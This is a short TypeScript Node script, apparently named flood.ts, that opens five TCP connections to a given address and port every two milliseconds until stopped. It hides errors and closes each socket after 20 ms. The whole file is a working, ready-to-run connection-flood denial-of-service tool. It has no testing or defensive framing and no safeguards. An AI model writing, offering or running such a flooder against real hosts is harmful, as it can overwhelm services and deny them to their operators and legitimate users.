/** `node flood.ts ADDRESS PORT`: five new connections every two milliseconds, until killed. */
import { connect } from "node:net";

const [, , host, port] = process.argv;
setInterval(() => {
  for (let count = 0; count < 5; count++) knock();
}, 2);

function knock() {
  const socket = connect({ host: host!, port: Number(port) });
  socket.on("error", () => undefined);
  setTimeout(() => socket.destroy(), 20);
}
